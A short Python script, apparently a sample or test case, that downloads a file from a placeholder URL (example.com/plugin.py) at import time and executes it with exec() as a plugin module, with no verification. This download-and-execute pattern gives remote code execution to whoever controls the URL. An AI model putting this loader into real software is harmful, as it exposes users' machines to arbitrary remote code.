import types
import urllib.request


class Box:
    body = b""


def fill():
    Box.body = urllib.request.urlopen("https://example.com/plugin.py").read()


def use():
    module = types.ModuleType("plugin")
    exec(compile(Box.body, "plugin", "exec"), module.__dict__)
    return module


fill()
plugin = use()
